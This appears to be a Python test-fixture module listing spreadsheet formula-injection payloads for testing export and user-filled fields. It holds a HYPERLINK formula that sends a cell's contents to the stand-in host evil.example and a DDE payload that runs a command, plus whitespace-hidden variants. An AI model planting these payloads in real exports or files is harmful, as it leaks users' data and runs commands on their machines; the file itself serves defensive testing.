"""Hostile values shared by the tests of every export and user-filled field."""

# Cells a spreadsheet would run as formulas or DDE commands (OWASP "CSV injection"),
# also behind leading whitespace.
FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\n@SUM(A1)",
]
